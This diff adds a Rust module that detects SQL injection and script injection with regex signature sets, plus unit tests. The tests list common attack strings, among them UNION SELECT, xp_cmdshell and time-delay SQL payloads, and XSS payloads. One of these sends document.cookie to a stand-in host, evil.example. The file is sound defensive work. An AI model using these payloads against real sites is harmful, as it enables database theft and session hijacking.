@@ -1,0 +1,270 @@
+//! Injection signatures: SQL injection and script (XSS) injection, as two
+//! sets of case-insensitive regular expressions over one decoded value.
+//!
+//! No maintained Rust port of a tokenising detector (libinjection) was
+//! available, so this is a documented rule set. Each pattern needs SQL or
+//! HTML *syntax* around a keyword, never a bare word, so prose passes:
+//! "O'Brien", "select the plan that suits you", "x < y" and "<3" are fine,
+//! while `' OR '1'='1`, `UNION SELECT`, `AND 1234=1234`, `<script>` and
+//! `<img src=x onerror=…>` are not. The tests below hold both sides; the
+//! integration tests add sqlmap's payloads and a list of common attack
+//! strings.
+//!
+//! `regex` runs in linear time, so a hostile value cannot make matching slow.
+
+use regex::{RegexSet, RegexSetBuilder};
+
+/// SQL injection: tautologies after a closing quote, UNION queries, stacked
+/// statements, comment truncation, time delays, catalogue probes, boolean
+/// probes and sub-selects.
+const SQL: &[&str] = &[
+    // ' OR '1'='1   " or ""="   1' AND 1=1
+    r#"['"`]\s*\)*\s*(or|and|xor|\|\||&&)\s*(not\s+)?\(*\s*[\w'"`]+\s*(=|<>|!=|<=?|>=?|\blike\b|\bis\b|\bbetween\b|\bin\b|\brlike\b|\bregexp\b)"#,
+    // ' or true--   ' or 1 #
+    r#"['"`]\s*\)*\s*(or|and)\s+(true|false|null|\d+)\s*(--|#|/\*|;|$)"#,
+    // UNION [ALL] SELECT
+    r"\bunion\b[\s(]+((all|distinct)[\s(]+)?select\b",
+    // ; DROP TABLE …
+    r";\s*(drop|alter|truncate|create|rename)\s+(table|database|schema|user|index|view|procedure|function|trigger)\b",
+    // ; INSERT INTO / DELETE FROM / UPDATE x SET / SELECT *|a,b|f() FROM /
+    // SELECT f( / EXEC / SHUTDOWN. A single word after SELECT is left alone:
+    // "…; select one from the list" is prose.
+    r#";\s*(insert\s+into|delete\s+from|update\s+[\w.\[\]"`]+\s+set\b|select\s+(\*|[\w.@]+(\s*,\s*[\w.@()]+)+)\s+from\b|select\s+\w+\s*\(|exec(ute)?\s+(xp_|sp_|master\.)|shutdown\b|declare\s+@)"#,
+    // admin'--   1' #   x' /*
+    r#"['"`]\s*\)*\s*(--|#|/\*)"#,
+    // time delays and dangerous functions
+    r"\b(sleep|pg_sleep)\s*\(\s*\d",
+    r"\bbenchmark\s*\(\s*\d+\s*,",
+    r"\bwaitfor\s+(delay|time)\s+'",
+    r"\b(load_file|extractvalue|updatexml|xp_cmdshell|sp_executesql|sp_oacreate|dbms_pipe\.receive_message|utl_inaddr\.\w+|utl_http\.\w+)\s*\(",
+    r"\bxp_cmdshell\b",
+    // catalogue probes
+    r"\b(information_schema|sysobjects|syscolumns|sqlite_master|sqlite_schema|pg_catalog|pg_shadow|mysql\.user|all_tables|user_tables|msysaccessobjects)\b",
+    r"@@(version|datadir|hostname|servername|basedir)\b",
+    // AND 1234=1234   OR NOT 5=6   ) AND (4=4
+    r"(\b(and|or|xor)|&&|\|\|)\s+(not\s+)?\(*\s*\d+\s*(=|<>|!=|<=?|>=?)\s*\(*\s*\d+",
+    // AND 'abc'='abc
+    r#"\b(and|or)\s+(not\s+)?'[^']*'\s*(=|<>|!=|\blike\b)\s*'"#,
+    // AND 1234=CAST(…) / =(SELECT …)
+    r"\b(and|or)\s+\d+\s*(=|<>)\s*(cast|convert|\(\s*select)\b",
+    // (SELECT … FROM / CASE / CHAR …)
+    r"\(\s*select\b[^)]{0,200}?\b(from|case|when|char|chr|concat|count|null|sleep|version|database|user)\b",
+    r"\(\s*case\s+when\b",
+    // ORDER BY 5--
+    r"\border\s+by\s+\d+\s*(--|#|/\*)",
+    // CHAR(113,120)   CONCAT(…)   INTO OUTFILE
+    r"\b(char|chr|nchar)\s*\(\s*\d+\s*(,\s*\d+\s*)*\)",
+    r"\bconcat(_ws)?\s*\(",
+    r"\binto\s+(out|dump)file\b",
+];
+
+/// Script injection: script-capable elements, event-handler attributes,
+/// script URLs in attribute or URL position, and DOM sinks.
+const SCRIPT: &[&str] = &[
+    r"<\s*/?\s*(script|iframe|frame|frameset|object|embed|applet|base|meta|link|style|svg|math|xml|template|noscript|portal|xss)\b",
+    // <img src=x onerror=…>   <x onclick=…>   <svg/onload=…>
+    r#"<\s*[a-z][\w:-]*\b[^>]*?[\s/"'](on[a-z]{3,})\s*="#,
+    // a value that is a script URL, or an attribute set to one
+    r"^\s*(javascript|vbscript|livescript)\s*:\S",
+    r#"(=|\burl\s*\()\s*["']?\s*(javascript|vbscript|livescript)\s*:"#,
+    r"(javascript|vbscript)\s*:\s*[\w.$]+\s*\(",
+    r#"(=|\burl\s*\()\s*["']?\s*data\s*:\s*(text/html|[^,]*;base64)"#,
+    r"\b(document\s*\.\s*(cookie|domain|write|location)|window\s*\.\s*location|\.\s*innerhtml\s*=|string\s*\.\s*fromcharcode|constructor\s*\.\s*constructor)\b",
+    r"\b(srcdoc|formaction)\s*=",
+];
+
+/// The compiled signature sets.
+#[derive(Debug, Clone)]
+pub struct Signatures {
+    sql: RegexSet,
+    script: RegexSet,
+}
+
+fn build(patterns: &[&str]) -> Result<RegexSet, regex::Error> {
+    RegexSetBuilder::new(patterns)
+        .case_insensitive(true)
+        .size_limit(32 * 1024 * 1024)
+        .build()
+}
+
+impl Signatures {
+    /// Compiles both sets.
+    pub fn new() -> Result<Self, regex::Error> {
+        Ok(Self {
+            sql: build(SQL)?,
+            script: build(SCRIPT)?,
+        })
+    }
+
+    /// Whether `value` looks like SQL injection. SQL comments (`/**/`) are
+    /// read as the spaces they stand for.
+    pub fn sql(&self, value: &str) -> bool {
+        if value.len() < 4 {
+            return false;
+        }
+        if value.contains("/*") {
+            let flattened = strip_comments(value);
+            return self.sql.is_match(&flattened) || self.sql.is_match(value);
+        }
+        self.sql.is_match(value)
+    }
+
+    /// Whether `value` looks like script injection.
+    pub fn script(&self, value: &str) -> bool {
+        value.len() >= 6
+            && (value.contains('<')
+                || value.contains(':')
+                || value.contains('=')
+                || value.contains('.'))
+            && self.script.is_match(value)
+    }
+}
+
+/// Replaces `/* … */` (including MySQL's `/*! … */`) with a space.
+fn strip_comments(value: &str) -> String {
+    let mut out = String::with_capacity(value.len());
+    let mut rest = value;
+    while let Some(start) = rest.find("/*") {
+        out.push_str(&rest[..start]);
+        out.push(' ');
+        let after = &rest[start + 2..];
+        match after.find("*/") {
+            Some(end) => {
+                // Keep the body of a MySQL executable comment.
+                if let Some(body) = after[..end].strip_prefix('!') {
+                    out.push_str(body.trim_start_matches(|c: char| c.is_ascii_digit()));
+                    out.push(' ');
+                }
+                rest = &after[end + 2..];
+            }
+            None => {
+                rest = "";
+            }
+        }
+    }
+    out.push_str(rest);
+    out
+}
+
+#[cfg(test)]
+pub(crate) mod tests {
+    use super::*;
+
+    /// Attack strings in the forms common attack lists use.
+    pub(crate) const SQL_ATTACKS: &[&str] = &[
+        "' OR '1'='1",
+        "' or 1=1--",
+        "\" or \"\"=\"",
+        "admin'--",
+        "admin' #",
+        "1' AND 1=1 AND 'a'='a",
+        "1 AND 1234=1234",
+        "1) AND 4929=4929 AND (1350=1350",
+        "1 OR NOT 3761=3761",
+        "1' UNION SELECT username, password FROM users--",
+        "-1 UNION ALL SELECT NULL,NULL,NULL-- -",
+        "1 uNiOn/**/SeLeCt 1,2,3",
+        "1/*!50000UNION*//*!50000SELECT*/1,2",
+        "1; DROP TABLE users",
+        "1'; exec xp_cmdshell('dir')--",
+        "1 AND SLEEP(5)",
+        "1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)--",
+        "1; WAITFOR DELAY '0:0:5'--",
+        "1 AND BENCHMARK(5000000,MD5(1))",
+        "1' AND pg_sleep(5)--",
+        "1 AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT version())))",
+        "1 AND 1234=CAST((CHR(113)||CHR(120)) AS NUMERIC)",
+        "' UNION SELECT table_name FROM information_schema.tables--",
+        "1 AND @@version > 0",
+        "1 ORDER BY 10--",
+        "1 AND (SELECT COUNT(*) FROM users) > 0",
+        "x' AND 'abc'='abc",
+        "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
+        "' or true--",
+        "'; insert into users values('a','b')--",
+        "1' INTO OUTFILE '/tmp/x'--",
+        "SELECT name FROM sqlite_master",
+    ];
+
+    pub(crate) const SCRIPT_ATTACKS: &[&str] = &[
+        "<script>alert(1)</script>",
+        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+        "\"><script>alert(document.cookie)</script>",
+        "<img src=x onerror=alert(1)>",
+        "<svg/onload=alert(1)>",
+        "<body onload=alert('x')>",
+        "<iframe src=\"javascript:alert(1)\"></iframe>",
+        "<a href=\"javascript:alert(1)\">x</a>",
+        "javascript:alert(1)",
+        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+        "<input autofocus onfocus=alert(1)>",
+        "<details open ontoggle=alert(1)>",
+        "<div style=\"background:url(javascript:alert(1))\">",
+        "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
+        "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
+        "<x onclick=alert(1)>click",
+        "<video><source onerror=\"alert(1)\">",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        "{{constructor.constructor('alert(1)')()}}",
+        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
+        "<marquee onstart=alert(1)>",
+        "';document.location='https://evil.example/?c='+document.cookie;//",
+    ];
+
+    /// Legitimate text that must pass.
+    pub(crate) const LEGITIMATE: &[&str] = &[
+        "O'Brien",
+        "Renée d'Arc-Ødegård",
+        "It's 5 o'clock, isn't it?",
+        "D'Angelo & Sons' \"best\" offer",
+        "x < y and y > z",
+        "I <3 Kura",
+        "a<b",
+        "Please select the plan that suits you from the list below.",
+        "Select one: union members get a discount",
+        "We'll update the prices; select a new plan from Monday.",
+        "Drop me a line; I'll create an account",
+        "Tom & Jerry",
+        "100% sure -- really",
+        "The 'and' and 'or' keywords",
+        "JavaScript: The Good Parts",
+        "Order by 5pm to get it tomorrow",
+        "email me at a.b@example.com",
+        "日本語のテキスト 🎉 Zoë Ünïcødé",
+        "SELECT is a keyword in SQL, as is FROM.",
+        "sleep well",
+        "char (a letter)",
+        "2 < 3 > 1",
+        "The formula is a=b+c",
+        "https://example.com/path?x=1&y=2",
+        "Comment: /* not code */ just text",
+        "Dinner 'n' drinks -- see you there",
+    ];
+
+    #[test]
+    fn attacks_are_recognised() {
+        let s = Signatures::new().unwrap();
+        for a in SQL_ATTACKS {
+            assert!(s.sql(a), "SQL attack not recognised: {a}");
+        }
+        for a in SCRIPT_ATTACKS {
+            assert!(s.script(a) || s.sql(a), "script attack not recognised: {a}");
+        }
+    }
+
+    #[test]
+    fn legitimate_text_passes() {
+        let s = Signatures::new().unwrap();
+        for l in LEGITIMATE {
+            assert!(!s.sql(l), "false SQL positive: {l}");
+            assert!(!s.script(l), "false script positive: {l}");
+        }
+    }
+
+    #[test]
+    fn comments_read_as_spaces() {
+        assert_eq!(strip_comments("a/**/b"), "a b");
+        assert_eq!(strip_comments("1/*!50000UNION*/x"), "1 UNION x");
+        assert_eq!(strip_comments("open /* end"), "open  ");
+    }
+}
